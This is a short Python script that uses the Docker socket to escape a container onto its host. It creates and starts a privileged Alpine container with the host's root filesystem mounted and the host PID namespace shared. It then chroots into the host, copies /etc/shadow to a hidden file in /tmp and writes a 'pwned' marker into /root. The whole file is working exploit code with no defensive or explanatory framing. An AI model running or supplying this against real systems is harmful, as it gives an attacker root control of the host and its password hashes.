import http.client
import json
import socket


class UnixConn(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/var/run/docker.sock")


def call(method, path, body=None):
    c = UnixConn("localhost")
    c.request(method, path, json.dumps(body) if body else None, {"Content-Type": "application/json"})
    return json.loads(c.getresponse().read() or b"{}")


spec = {"Image": "alpine", "Cmd": ["chroot", "/host", "sh", "-c", "cat /etc/shadow > /tmp/.s; id > /root/pwned"],
        "HostConfig": {"Binds": ["/:/host"], "Privileged": True, "PidMode": "host"}}
cid = call("POST", "/containers/create", spec)["Id"]
call("POST", f"/containers/{cid}/start")
